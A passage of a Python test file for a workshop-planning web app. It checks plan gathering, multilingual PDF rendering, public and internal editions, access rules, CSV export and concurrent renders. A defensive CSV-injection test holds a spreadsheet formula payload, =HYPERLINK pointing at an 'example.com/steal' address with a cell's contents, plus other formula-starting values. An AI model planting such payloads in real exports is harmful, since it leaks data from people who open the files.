"""The action plan (issue 11): what plan.gather reads, the PDF in English, French and
Arabic (text extracted with pypdf), the editions and who gets which, the draft mark, the
CSV of all actions, and the PDFs kept in the database, shared by every server process
(one render for two requests at once, the bound on renders across processes, a dead
render noticed by its reaper or its lease, a real render process)."""
from __future__ import annotations

import csv
import io
import os
import re
import sys
import threading
import time
import unicodedata
from datetime import date

import pytest
from flask_babel import force_locale
from flask_migrate import upgrade
from pypdf import PdfReader
from sqlalchemy import delete, event, select, update

from facilitator import create_app, workshops
from facilitator.extensions import db
from facilitator.live import operations
from facilitator.models import (Action, Actor, Event, Idea, Participant, PlanFile, Synergy,
                                WorkingGroup, Workshop)
from facilitator.people import accounts, participants
from facilitator.plan import content as plan, render as plan_render
from facilitator.plan.pdf import plan_html, plan_pdf
from facilitator.sample import BOARDS, COMMITTEE, MEASURES, PRIORITIES, create_sample
from facilitator.snapshot import snapshot
from facilitator.steps import synergies
from tests.databases import drop_database, new_database
from tests.steps import SAMPLE_OWNER, do, phone_client
from tests.support import login

OWNER = SAMPLE_OWNER
ORGANISER = ("plan-organiser@example.org", "organiser-password")
ARABIC_ACTION = ("إطلاق استبيان سنوي لتوقعات المغتربين", "الجامعة اللبنانية الأميركية",
                 date(2016, 3, 15))


EMAILS = [name.lower().replace(" ", ".") + "@example.org" for name, _role in COMMITTEE]


def with_organiser(room: dict) -> None:
    """An organiser besides the owner: room_at("closing", then=with_organiser) is the
    sample seminar at its closing (success factors, measures and committee in), not
    closed yet, with its organiser."""
    operations.run(accounts.create_facilitator, ORGANISER[0], "Organiser", ORGANISER[1])
    operations.submit(room["console"], "team.add", email=ORGANISER[0], role="organiser")


@pytest.fixture(autouse=True)
def _signed_in_per_request(app):
    """Each test client its own signed-in user: the tests keep one app context open, whose
    `g` would otherwise carry Flask-Login's user from one client's request to another's."""
    from flask import g

    def forget() -> None:
        g.pop("_login_user", None)

    app.before_request_funcs.setdefault(None, []).insert(0, forget)


def add_arabic_action(workshop: Workshop) -> None:
    """An action written in Arabic, led by an actor with an Arabic name (group 3)."""
    group = db.session.scalars(select(WorkingGroup).where(
        WorkingGroup.workshop_id == workshop.id)).all()[-1]
    title, lead, deadline = ARABIC_ACTION
    actor = Actor(workshop_id=workshop.id, group_id=group.id, name=lead, kind="other",
                  role="تصمم الاستبيان")
    db.session.add(actor)
    db.session.flush()
    db.session.add(Action(workshop_id=workshop.id, group_id=group.id, title=title,
                          lead_actor_id=actor.id, partner_ids=[], objective_ids=[],
                          deadline=deadline, expected_result="٢٠٠٠ إجابة", resources=""))
    workshop.last_seq += 1
    db.session.commit()


# --- reading the text back ---------------------------------------------------------------

_CONTROLS = dict.fromkeys(map(ord, "\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u0640\u00ad"))
_ALEFS = str.maketrans("أإآٱؤ", "ااااو")
# Noto Sans Arabic draws most letters as a skeleton plus dot marks, and a PDF maps glyphs
# (not letters) back to text: extraction gives the right skeleton with the wrong dots, or
# drops a letter. Only these letters, drawn without marks, come back as they were.
_STABLE = set("المو")


def words(text: str) -> list[str]:
    """Normalised words: compatibility forms folded (Arabic presentation forms back to
    letters), isolates, marks and tatweel dropped, case folded, and Latin, Arabic and
    digits split apart (table cells come out of a PDF glued together)."""
    text = unicodedata.normalize("NFKC", text).translate(_CONTROLS)
    text = "".join(c for c in unicodedata.normalize("NFD", text)
                   if unicodedata.category(c) != "Mn")
    return re.findall(r"[^\W\d_\u0600-\u06ff]+|[\u0600-\u06ff]+|\d+", text.casefold())


def pdf_pages(content: bytes) -> list[str]:
    return [page.extract_text() or "" for page in PdfReader(io.BytesIO(content)).pages]


def skeleton(word: str) -> str:
    return "".join(c for c in word.translate(_ALEFS) if c in _STABLE)


def is_arabic(word: str) -> bool:
    return bool(re.match("[\u0600-\u06ff]", word))


def holds(text_words: list[str], phrase: str, in_order: bool = True) -> bool:
    """The phrase in the text. Left to right: its words as a run. Right to left, whose
    lines extraction may give in visual order and whose table cells it glues together:
    each run of Latin words and digits somewhere in the text run together, and each
    Arabic word by the letters that come back from a PDF unchanged."""
    wanted = words(phrase)
    if in_order:
        n = len(wanted)
        return any(text_words[i:i + n] == wanted for i in range(len(text_words) - n + 1))
    compact = "".join(w for w in text_words if not is_arabic(w))
    shapes = {skeleton(w) for w in text_words if is_arabic(w)}
    runs, run = [], []
    for word in wanted:
        if is_arabic(word):
            runs.append("".join(run))
            run = []
            if len(skeleton(word)) >= 2 and skeleton(word) not in shapes:
                return False
        else:
            run.append(word)
    runs.append("".join(run))
    return all(r in compact for r in runs if r)


def expected_entries(data: dict) -> list[str]:
    """Every priority, action, owner and deadline the plan must show."""
    wanted = []
    for priority in data["priorities"]:
        wanted.append(priority["title"])
        for action in priority["actions"]:
            wanted += [action["title"], action["lead"], *action["partners"]]
            if action["deadline"]:
                wanted.append(action["deadline"])
    for shared in data["shared_actions"]:
        wanted += [shared["title"], shared["lead"], *shared["partners"], shared["deadline"]]
    for measure in data["measures"]:
        wanted += [measure["text"], measure["owner"], measure["due"]]
    for member in data["committee"]:
        wanted += [member["name"], member["role"]]
    return [w for w in wanted if w]


# --- gather ------------------------------------------------------------------------------

def test_gather_reads_the_plan_as_the_room_saw_it(app, room_at):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    data = plan.gather(seminar.id)
    assert data["language"] == "en" and data["edition"] == "public" and data["draft"]
    assert [p["title"] for p in data["priorities"]] == [t for _k, t, _d in PRIORITIES]
    first = data["priorities"][0]
    assert [o["text"] for o in first["objectives"]] == BOARDS["framework"]["objectives"]
    desk = first["actions"][0]
    assert desk["number"] == "1.1" and desk["objectives"] == [1, 2]
    assert desk["lead"] == "IDAL" and desk["partners"] == ["Ministry of Economy", "CCIA-BML"]
    assert desk["deadline"] == "15 Dec 2015" and desk["deadline_iso"] == "2015-12-15"
    assert desk["shared_in"] == ["S1"]
    assert [s["substep"] for s in first["syntheses"]] == ["objectives", "actors", "actions"]
    assert first["members"]["total"] == sum(r["count"] for r in first["members"]["by_profile"])
    # the shared actions link the group actions they absorb, by number
    s1 = data["shared_actions"][0]
    assert [a["number"] for a in s1["absorbs"]] == ["2.1", "1.1"]
    assert s1["priorities"] == [1, 2, 3] and s1["deadline"] == "30 Nov 2015"
    # step 1: hidden and merged-away cards are left out; merged texts kept with their card
    texts = [i["text"] for t in data["themes"] for i in t["ideas"]] + \
        [i["text"] for i in data["loose_ideas"]]
    assert not any("charger" in t for t in texts)
    assert len(texts) == data["counts"]["contributions"] == 40
    assert sum(len(i["merged_texts"]) for t in data["themes"] for i in t["ideas"]) == 3
    assert [t["dots"] for t in data["themes"]] == sorted((t["dots"] for t in data["themes"]),
                                                         reverse=True)
    assert data["counts"]["dots"] == 75 and data["counts"]["voters"] == 25
    # closing: factors by support, measures by date, the committee without emails
    assert [f["endorsements"] for f in data["success_factors"]] == [13, 9, 5]
    assert [m["text"] for m in data["measures"]] == [m[0] for m in MEASURES]
    assert [m["name"] for m in data["committee"]] == [name for name, _role in COMMITTEE]
    assert all("email" not in m for m in data["committee"])
    internal = plan.gather(seminar.id, edition="internal")
    assert [m["email"] for m in internal["committee"]] == EMAILS


def test_gather_writes_dates_in_the_plans_language(app, room_at):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    french = plan.gather(seminar.id, language="fr")
    assert french["workshop"]["date"] == "20 octobre 2015"
    assert french["priorities"][0]["actions"][0]["deadline"] == "15 déc. 2015"
    arabic = plan.gather(seminar.id, language="ar")
    assert arabic["rtl"] and arabic["workshop"]["date"] == "20 أكتوبر 2015"
    seminar.closed_at = seminar.created_at.replace(year=2015, month=10, day=20, hour=15,
                                                   minute=30)
    db.session.commit()
    closed = plan.gather(seminar.id, language="fr")
    # 15:30 UTC is 18:30 in Beirut
    assert not closed["draft"] and closed["workshop"]["closed_at"] == "20 octobre 2015, 18:30"
    with pytest.raises(plan.PlanNotFound):
        plan.gather(999_999)
    with pytest.raises(ValueError):
        plan.gather(seminar.id, edition="secret")


LONG_CHAMBER = ("Chamber of Commerce, Industry and Agriculture of Beirut and Mount Lebanon "
                "(CCIA-BML)")


def test_a_recognised_actor_is_printed_under_one_name(app, room_at):
    """The chamber, written "CCIA-BML" by two groups and in full by the third, accepted
    at Step 4 as one shared actor: the plan and the map name it the way most used, the
    group's own spelling kept in its actors' table; a name the facilitators give the
    synergy (one of the spellings) wins."""
    seminar = room_at("closing", then=with_organiser)["workshop"]
    data = plan.gather(seminar.id)
    second = data["priorities"][1]
    assert second["actions"][0]["lead"] == "CCIA-BML"
    assert {"name": "CCIA-BML", "written": LONG_CHAMBER} in [
        {"name": a["name"], "written": a["written"]} for a in second["actors"]]
    printed = [name for p in data["priorities"] for a in p["actions"]
               for name in (a["lead"], *a["partners"])]
    printed += [name for s in data["shared_actions"] for name in (s["lead"], *s["partners"])]
    assert LONG_CHAMBER not in printed and "CCIA-BML" in printed
    node = next(s for s in data["drawings"]["map"]["synergies"] if s["kind"] == "shared_actor"
                and s["title"].startswith("The chamber"))
    assert node["actors"] == ["CCIA-BML"]
    assert "MoFA" in [a["name"] for a in data["priorities"][2]["actors"]]  # not recognised

    synergy = db.session.scalar(select(Synergy).where(
        Synergy.workshop_id == seminar.id, Synergy.title.startswith("The chamber")))
    synergy.title = LONG_CHAMBER  # the facilitators' pick
    db.session.commit()
    picked = plan.gather(seminar.id)
    first = picked["priorities"][0]
    assert first["actions"][0]["partners"] == ["Ministry of Economy", LONG_CHAMBER]
    assert {"name": LONG_CHAMBER, "written": "CCIA-BML"} in [
        {"name": a["name"], "written": a["written"]} for a in first["actors"]]
    assert "CCIA-BML" not in [s["lead"] for s in picked["shared_actions"]]


def test_a_profile_s_count_follows_its_name_in_an_arabic_plan(app, room_at):
    """"وزارة (3)": the count outside any isolate, so it runs in the sentence's
    direction after the name (inside the name's isolate with it, an isolate with no
    letter of its own runs left to right, and an Arabic plan printed "(3) وزارة")."""
    seminar = room_at("closing", then=with_organiser)["workshop"]
    html = plan_html(plan.gather(seminar.id, language="ar"))
    sentences = re.findall(r'<p class="(?:profiles|note)">(.*?)</p>', html, flags=re.S)
    counts = 0
    for sentence in sentences:
        for found in re.finditer(r"\(\d+\)", sentence):
            before = sentence[:found.start()]
            assert before.count("\u2068") == before.count("\u2069"), sentence
            counts += 1
    assert counts >= 8  # the room's profiles, and each group's


def test_a_french_plan_spaces_what_people_typed_the_french_way(app, room_at):
    """A space typed before : ; ! ? becomes the narrow no-break space of the plan's own
    French sentences (never a line starting with "?"); in English, as typed."""
    seminar = room_at("closing", then=with_organiser)["workshop"]
    action = db.session.scalars(select(Action).where(
        Action.workshop_id == seminar.id).order_by(Action.id)).first()
    action.title = "Lancer une enquête : attentes de la diaspora ?"
    seminar.last_seq += 1
    db.session.commit()
    french = plan_html(plan.gather(seminar.id, language="fr"))
    assert french.count("Lancer une enquête\u202f: attentes de la diaspora\u202f?") >= 2
    assert "enquête :" not in french and "diaspora ?" not in french
    english = plan_html(plan.gather(seminar.id, language="en"))
    assert "Lancer une enquête : attentes de la diaspora ?" in english


def test_gather_runs_the_same_queries_however_big_the_room(app, room_at):
    seminar = room_at("closing", then=with_organiser)["workshop"]

    def count_queries() -> int:
        statements = []

        def seen(*_args):
            statements.append(1)

        event.listen(db.engine, "before_cursor_execute", seen)
        try:
            db.session.expire_all()
            plan.gather(seminar.id, edition="internal")
        finally:
            event.remove(db.engine, "before_cursor_execute", seen)
        return len(statements)

    before = count_queries()
    groups = db.session.scalars(select(WorkingGroup).where(
        WorkingGroup.workshop_id == seminar.id)).all()
    people = db.session.scalars(select(Participant.id).where(
        Participant.workshop_id == seminar.id)).all()
    for n in range(30):
        group = groups[n % len(groups)]
        actor = Actor(workshop_id=seminar.id, group_id=group.id, name=f"Actor {n}")
        db.session.add(actor)
        db.session.flush()
        db.session.add(Action(workshop_id=seminar.id, group_id=group.id, title=f"Action {n}",
                              lead_actor_id=actor.id, partner_ids=[actor.id]))
        db.session.add(Idea(workshop_id=seminar.id, participant_id=people[n % len(people)],
                            text=f"Card {n}", extra_authors=[], merged_texts=[]))
    db.session.commit()
    assert count_queries() == before <= 25  # the drawings reuse the plan's rows


# --- the PDF -----------------------------------------------------------------------------

@pytest.mark.parametrize("language", ["en", "fr", "ar"])
def test_the_pdf_holds_every_priority_action_owner_and_deadline(app, room_at, language):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    if language == "ar":
        add_arabic_action(seminar)
    data = plan.gather(seminar.id, language=language)
    content = plan_pdf(data)
    pages = pdf_pages(content)
    assert 10 <= len(pages) <= 20
    text = words("\n".join(pages))
    missing = [w for w in expected_entries(data) if not holds(text, w, in_order=language != "ar")]
    assert not missing, missing
    if language == "ar":
        title, lead, deadline = ARABIC_ACTION
        for phrase in (title, lead, "15 مارس 2016"):
            assert holds(text, phrase, in_order=False), phrase
    assert not any("@" in page for page in pages)  # the public edition: no email
    reader = PdfReader(io.BytesIO(content))
    root = reader.trailer["/Root"]
    assert "/StructTreeRoot" in root and root["/Lang"] == language  # a tagged PDF
    assert "/Outlines" in root  # the headings as bookmarks
    sizes = {tuple(round(float(v)) for v in page.mediabox[2:]) for page in reader.pages}
    assert sizes == {(595, 842), (842, 595)}  # A4 portrait, the map and timeline landscape


def test_only_the_internal_edition_has_the_committees_emails(app, room_at):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    public = "\n".join(pdf_pages(plan_pdf(plan.gather(seminar.id))))
    internal = "\n".join(pdf_pages(plan_pdf(plan.gather(seminar.id, edition="internal"))))
    assert not any(email in public for email in EMAILS) and "@" not in public
    assert all(email in internal for email in EMAILS)
    assert "Public edition" in public and "Internal edition" in internal


def test_a_draft_says_so_on_every_page_and_a_closed_plan_does_not(app, room_at):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    draft = pdf_pages(plan_pdf(plan.gather(seminar.id)))
    assert all("DRAFT" in page for page in draft), [i for i, p in enumerate(draft)
                                                     if "DRAFT" not in p]
    french = pdf_pages(plan_pdf(plan.gather(seminar.id, language="fr")))
    assert all(re.search(r"PROJET|DRAFT", page) for page in french)
    seminar.closed_at = seminar.created_at
    db.session.commit()
    final = pdf_pages(plan_pdf(plan.gather(seminar.id)))
    assert not any("DRAFT" in page for page in final)
    assert "Final version" in final[0]


def test_an_empty_priority_says_no_action_agreed_yet(app):
    workshop = create_sample(*OWNER, until="confirm")
    html = plan_html(plan.gather(workshop.id))
    assert html.count("No action agreed yet.") == 3
    assert "No shared action agreed yet." in html and "No synergy recorded yet." in html
    assert 'data-drawing="synergy-map"' not in html  # an empty map is left out


def test_a_workshop_that_has_just_begun_still_makes_a_plan(app):
    """Nothing but participants: every section says what is missing; no drawing."""
    workshop = create_sample(*OWNER, until="welcome")
    data = plan.gather(workshop.id, language="fr")
    assert data["priorities"] == [] and data["counts"]["contributions"] == 0
    pages = pdf_pages(plan_pdf(data))
    text = "\n".join(pages)
    assert len(pages) >= 5 and workshop.title in text
    html = plan_html(data)
    assert 'data-drawing=' not in html


def test_the_contents_and_headers_name_the_sections(app, room_at):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    pages = pdf_pages(plan_pdf(plan.gather(seminar.id)))
    contents = next(p for p in pages if "Contents" in p and "How the plan was built" in p)
    for title in (t for _k, t, _d in PRIORITIES):
        assert title in contents
    # every page but the cover has the running header (the workshop's title) and numbers
    assert all(seminar.title in page for page in pages[1:])
    assert all(f"of {len(pages)}" in page for page in pages[1:])
    assert "Page 1 of" not in pages[0]  # nothing in the cover's margins but DRAFT
    # the header names the section a page starts in, its first page included
    for page in pages:
        if "THE METHOD" in page:
            assert f"{seminar.title} How the plan was built" in page
        for rank in (1, 2, 3):
            if f"PRIORITY {rank}\n" in page:
                assert f"{seminar.title} Priority {rank} ·" in page


# --- the pages and who gets what ---------------------------------------------------------


def render_here(key, token):
    """The render process's work, done in this process (the test database is in memory,
    which no other process can read)."""
    plan_render.render(key, token)


def start_nothing(key, token):
    """A render process that never starts (nor ends): its render stays queued."""


def versions(workshop_id: int, edition: str | None = None) -> list[tuple]:
    """(language, edition, seq, state) of a workshop's plan rows."""
    query = select(PlanFile.language, PlanFile.edition, PlanFile.seq, PlanFile.state).where(
        PlanFile.workshop_id == workshop_id).order_by(PlanFile.id)
    if edition is not None:
        query = query.where(PlanFile.edition == edition)
    return [tuple(row) for row in db.session.execute(query)]


def test_staff_download_both_editions_once_rendered(app, room_at, monkeypatch):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    monkeypatch.setattr(plan_render, "start_process", render_here)
    client = login(app.test_client(), *ORGANISER)
    page = client.get(f"/workshops/{seminar.id}/plan")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "Not prepared yet" in html and f"/workshops/{seminar.id}/export.json" in html
    assert 'http-equiv="refresh"' not in html  # nothing being prepared: no reload
    for edition in ("public", "internal"):
        response = client.get(f"/workshops/{seminar.id}/plan.pdf?edition={edition}")
        assert response.status_code == 200 and response.mimetype == "application/pdf"
        assert "attachment" in response.headers["Content-Disposition"]
        assert f"-{edition}-draft.pdf" in response.headers["Content-Disposition"]
        text = "\n".join(pdf_pages(response.data))
        assert ("rania.haddad@example.org" in text) == (edition == "internal")
    status = client.get(f"/workshops/{seminar.id}/plan/status.json").get_json()
    assert {e: s["state"] for e, s in status["editions"].items()} == {
        "public": "ready", "internal": "ready"}
    assert status["draft"] and status["last_seq"] == seminar.last_seq
    html = client.get(f"/workshops/{seminar.id}/plan").get_data(as_text=True)
    assert html.count('data-download="') == 2



def test_an_email_withdrawn_is_never_in_an_internal_edition_offered(app, room_at,
                                                                    monkeypatch):
    """Only the room as it is now makes an internal edition: after a committee member
    leaves, the earlier one (with their email) is neither offered nor served, and is
    deleted; the public edition still offers its earlier version."""
    seminar = room_at("closing", then=with_organiser)["workshop"]
    monkeypatch.setattr(plan_render, "start_process", render_here)
    owner = login(app.test_client(), *OWNER)
    base = f"/workshops/{seminar.id}"
    for edition in ("public", "internal"):
        assert owner.get(f"{base}/plan.pdf?edition={edition}").status_code == 200
    before = db.session.get(Workshop, seminar.id).last_seq
    rania = db.session.scalar(select(Participant).where(
        Participant.workshop_id == seminar.id, Participant.name == "Rania Haddad"))
    with app.test_request_context():
        assert do(participants.viewer_for(rania), "committee.leave")["ok"]
    monkeypatch.setattr(plan_render, "start_process", start_nothing)
    html = owner.get(f"{base}/plan").get_data(as_text=True)
    assert f"edition=public&amp;language=en&amp;seq={before}" in html
    assert "edition=internal&amp;language=en&amp;seq=" not in html
    assert owner.get(f"{base}/plan.pdf?edition=internal&seq={before}").status_code == 404
    response = owner.get(f"{base}/plan.pdf?edition=internal")
    assert response.status_code == 202  # the room as it is now, being prepared
    # the earlier one is gone from the database; the room as it is now is queued
    assert [state for *_plan, state in versions(seminar.id, "internal")] == ["queued"]
    earlier = owner.get(f"{base}/plan.pdf?edition=public&seq={before}")
    assert earlier.status_code == 200 and "@" not in "\n".join(pdf_pages(earlier.data))

def test_a_participant_gets_the_public_edition_only_once_shared(app, room_at,
                                                                 monkeypatch):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    phone = phone_client(app, seminar, "Nadia Phone")
    monkeypatch.setattr(plan_render, "start_process", render_here)
    url = f"/workshops/{seminar.id}/plan.pdf"
    assert phone.get(url).status_code == 403  # not shared yet
    page = phone.get(f"/w/{seminar.id}").get_data(as_text=True)
    assert f'"plan_url": "/workshops/{seminar.id}/plan.pdf"' in page  # shown once shared
    owner = login(app.test_client(), *OWNER)
    assert owner.post(f"/workshops/{seminar.id}/plan/share", data={"shared": "1"}) \
        .status_code == 302
    assert db.session.get(Workshop, seminar.id, populate_existing=True).plan_shared
    assert db.session.scalar(select(Event.type).where(Event.workshop_id == seminar.id)
                             .order_by(Event.seq.desc()).limit(1)) == "workshop.updated"
    response = phone.get(url)
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert "@" not in "\n".join(pdf_pages(response.data))
    assert phone.get(url + "?edition=internal").status_code == 403
    for page in ("plan", "plan.html", "actions.csv", "plan/status.json"):
        assert phone.get(f"/workshops/{seminar.id}/{page}").status_code in (302, 401, 403)
    # anyone else: nothing
    stranger = app.test_client()
    assert stranger.get(url).status_code == 403
    operations.run(accounts.create_facilitator, "other@example.org", "Other", "other-password")
    other = login(app.test_client(), "other@example.org", "other-password")
    assert other.get(url).status_code == 403
    assert other.get(f"/workshops/{seminar.id}/plan").status_code == 403


def test_only_facilitators_share_the_plan(app, room_at):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    organiser = login(app.test_client(), *ORGANISER)
    organiser.post(f"/workshops/{seminar.id}/plan/share", data={"shared": "1"})
    assert not db.session.get(Workshop, seminar.id, populate_existing=True).plan_shared
    html = organiser.get(f"/workshops/{seminar.id}/plan").get_data(as_text=True)
    assert "data-share" not in html


def test_a_pdf_not_ready_gets_a_page_that_reloads_until_it_is(app, room_at):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    started = []
    owner = login(app.test_client(), *OWNER)
    plan_render.start_process, real = (lambda key, token: started.append(key)), \
        plan_render.start_process
    try:
        response = owner.get(f"/workshops/{seminar.id}/plan.pdf?language=fr")
        assert response.status_code == 202
        assert 'http-equiv="refresh"' in response.get_data(as_text=True)
        again = owner.get(f"/workshops/{seminar.id}/plan.pdf?language=fr")
        assert again.status_code == 202 and len(started) == 1  # one render for both
        downloads = owner.get(f"/workshops/{seminar.id}/plan?language=fr").get_data(
            as_text=True)
        assert 'http-equiv="refresh"' in downloads and 'data-state="queued"' in downloads
    finally:
        plan_render.start_process = real
    assert started[0].language == "fr" and started[0].edition == "public"


def test_the_preview_is_the_plan_under_the_apps_csp(app, room_at):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    client = login(app.test_client(), *OWNER)
    response = client.get(f"/workshops/{seminar.id}/plan.html?language=fr")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "<style" not in html and " style=" not in html and "<script" not in html
    assert "css/plan.css" in html and 'lang="fr"' in html
    for title in (t for _k, t, _d in PRIORITIES):
        assert title.replace("'", "&#39;") in html
    assert "@" not in html.split("</head>", 1)[1].replace("plan.pdf", "")



LANGUAGE_REFUSED = "The action plan is available in English, French and Arabic only."
EDITION_REFUSED = "The action plan has two editions only: public and internal."


def test_an_unknown_language_or_edition_is_refused_in_a_sentence(app, room_at,
                                                                 monkeypatch):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    phone = phone_client(app, seminar, "Nadia Phone")
    started = []
    monkeypatch.setattr(plan_render, "start_process",
                        lambda key, token: started.append(key))
    owner = login(app.test_client(), *OWNER)
    base = f"/workshops/{seminar.id}"
    for page in ("/plan.pdf", "/plan.html", "/actions.csv", "/plan"):
        response = owner.get(f"{base}{page}?language=de")
        assert response.status_code == 400, page
        assert LANGUAGE_REFUSED in response.get_data(as_text=True), page
    for page in ("/plan.pdf", "/plan.html"):
        response = owner.get(f"{base}{page}?edition=secret")
        assert response.status_code == 400, page
        assert EDITION_REFUSED in response.get_data(as_text=True), page
    status = owner.get(f"{base}/plan/status.json?language=de")
    assert status.status_code == 400 and status.get_json() == {"error": LANGUAGE_REFUSED}
    status = owner.get(f"{base}/plan/status.json?edition=secret")
    assert status.status_code == 400 and status.get_json() == {"error": EDITION_REFUSED}
    # the downloads page's form: back to the page, which says what was wrong
    for field, value, said in (("edition", "secret", EDITION_REFUSED),
                               ("language", "de", LANGUAGE_REFUSED)):
        response = owner.post(f"{base}/plan/render", data={field: value})
        assert response.status_code == 302
        assert response.headers["Location"].endswith(f"{base}/plan")
        assert said in owner.get(f"{base}/plan").get_data(as_text=True)
    # a participant, once the plan is shared: the same sentence, nothing started
    owner.post(f"{base}/plan/share", data={"shared": "1"})
    response = phone.get(f"{base}/plan.pdf?language=xx")
    assert response.status_code == 400 and LANGUAGE_REFUSED in response.get_data(as_text=True)
    assert not started
    assert owner.get(f"{base}/plan.pdf?language=ar").status_code == 202  # a known one

def test_the_csv_has_one_row_per_action_with_its_priority_and_group(app, room_at):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    add_arabic_action(seminar)
    client = login(app.test_client(), *ORGANISER)
    response = client.get(f"/workshops/{seminar.id}/actions.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    raw = response.data
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    data = plan.gather(seminar.id)
    group_actions = sum(len(p["actions"]) for p in data["priorities"])
    assert len(rows) == group_actions + len(data["shared_actions"]) == 12
    for row in rows:
        assert row["Priority"] and row["Priority title"] and row["Working group"], row
    desk = next(r for r in rows if r["No."] == "1.1")
    assert desk["Kind"] == "Group action" and desk["Priority"] == "1"
    assert desk["Working group"] == "Working group 1" and desk["Deadline"] == "2015-12-15"
    assert desk["Lead"] == "IDAL" and desk["Partners"] == "Ministry of Economy; CCIA-BML"
    assert desk["Part of shared action"] == "S1"
    shared = next(r for r in rows if r["No."] == "S1")
    assert shared["Kind"] == "Shared action" and shared["Priority"] == "1; 2; 3"
    assert shared["Brings together"].startswith("2.1 Launch the coordination platform")
    arabic = next(r for r in rows if r["Action"] == ARABIC_ACTION[0])
    assert arabic["Lead"] == ARABIC_ACTION[1] and arabic["Priority"] == "3"
    french = client.get(f"/workshops/{seminar.id}/actions.csv?language=fr")
    assert "attachment" in french.headers["Content-Disposition"]



def test_the_csv_keeps_formulas_typed_on_phones_as_text(app, room_at):
    """A cell starting with = + - @, a tab or a carriage return would be run by a
    spreadsheet as a formula: it starts with ' instead, so it shows as typed."""
    seminar = room_at("closing", then=with_organiser)["workshop"]
    action = db.session.scalar(select(Action).where(Action.workshop_id == seminar.id)
                               .order_by(Action.id))
    lead = db.session.get(Actor, action.lead_actor_id)
    action.title = '=HYPERLINK("http://example.com/steal?d="&A1,"Click for details")'
    action.expected_result = "+33 1 23 45 67 89"
    action.resources = "@SUM(A1:A9)"
    lead.name = "-2+3"
    partner = db.session.get(Actor, action.partner_ids[0])
    partner.name = "\tcmd"
    db.session.commit()
    client = login(app.test_client(), *OWNER)
    raw = client.get(f"/workshops/{seminar.id}/actions.csv").data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    row = next(r for r in rows if r["No."] == "1.1")
    assert row["Action"] == \
        "'=HYPERLINK(\"http://example.com/steal?d=\"&A1,\"Click for details\")"
    assert row["Expected result"] == "'+33 1 23 45 67 89"
    assert row["Resources needed"] == "'@SUM(A1:A9)"
    assert row["Lead"] == "'-2+3" and row["Partners"].startswith("'\tcmd")
    # everything else as it was
    assert row["Deadline"] == "2015-12-15" and row["Priority"] == "1"
    marked = {cell for r in rows for cell in r.values() if cell.startswith("'")}
    assert {cell[1:3] for cell in marked} == {"=H", "+3", "@S", "-2", "\tc"}
    brings = next(r for r in rows if r["No."] == "S1")["Brings together"]
    assert "=HYPERLINK" in brings and not brings.startswith("'")  # not at the start


# --- the PDFs in the database: the bound on renders, dead renders ------------------------

@pytest.fixture
def on_disk(tmp_path):
    """Server processes sharing one database on disk (an SQLite file, or a PostgreSQL
    database of its own): each call makes another app object on it, as another
    process would."""
    url = new_database(tmp_path)
    made = []

    def another_process():
        app = create_app("test", SQLALCHEMY_DATABASE_URI=url)
        app.instance_path = str(tmp_path / "instance")
        made.append(app)
        return app

    with another_process().app_context():
        upgrade()
    yield another_process
    for app in made:
        with app.app_context():
            db.session.remove()
            db.engine.dispose()
    drop_database(url)


def holding(spawned: list):
    """A stand-in for a render process that never ends: its render stays under way,
    holding its plan and its render place."""
    def spawn(key, token):
        spawned.append((key, token))
    return spawn


def fake_pdf(monkeypatch, meanwhile=None):
    """Renders make a small stand-in PDF at once (after `meanwhile()`, when given)."""
    def make(_data):
        if meanwhile is not None:
            meanwhile()
        return b"%PDF-1.7 stand-in"
    monkeypatch.setattr("facilitator.plan.pdf.plan_pdf", make)


real_start_process = plan_render.start_process


def wait_for(key, done, seconds: float = 120) -> dict:
    """The plan's state, once done(state) (a render process works meanwhile)."""
    deadline = time.monotonic() + seconds
    while not done(state := plan_render.status(key)):
        assert time.monotonic() < deadline, f"still {state} after {seconds} s"
        time.sleep(0.2)
    return state


def lease_runs_out(key) -> None:
    """Nothing heard of this plan's render for longer than a lease: its machine died."""
    db.session.execute(update(PlanFile).where(
        PlanFile.workshop_id == key.workshop_id, PlanFile.language == key.language,
        PlanFile.edition == key.edition, PlanFile.state.in_(plan_render.UNDER_WAY))
        .values(heartbeat_at=plan_render.database_now(-plan_render.LEASE_SECONDS - 1)))
    db.session.commit()


def test_two_requests_at_once_cause_one_render(on_disk):
    app = on_disk()
    with app.app_context():
        workshop = create_sample(*OWNER, until="ideas")
        key = plan_render.key_for(workshop, "en", "public")
    spawned, answers = [], []
    barrier = threading.Barrier(8)

    def ask():
        with app.app_context():
            barrier.wait()
            answers.append(plan_render.ask_render(key, spawn=holding(spawned))["state"])

    threads = [threading.Thread(target=ask) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [k for k, _token in spawned] == [key] and answers == ["queued"] * 8
    with app.app_context():
        # the render happens; everyone then sees it ready, and nobody renders again
        assert plan_render.render(key, spawned[0][1])
        assert plan_render.ask_render(key, spawn=holding(spawned))["state"] == "ready"
        assert len(spawned) == 1
        assert plan_render.ready_pdf(key).startswith(b"%PDF")
        # the room moves on: a new key, a new render; the earlier one is still there
        workshop = db.session.get(Workshop, key.workshop_id)
        workshop.last_seq += 1
        db.session.commit()
        newer = plan_render.key_for(workshop, "en", "public")
        assert plan_render.status(newer)["state"] == "none"
        assert plan_render.latest_ready(newer)[0] == key


def test_the_bound_holds_across_processes_sharing_the_database(on_disk, monkeypatch):
    """Two server processes on one database: one render per plan and RENDER_SLOTS at once
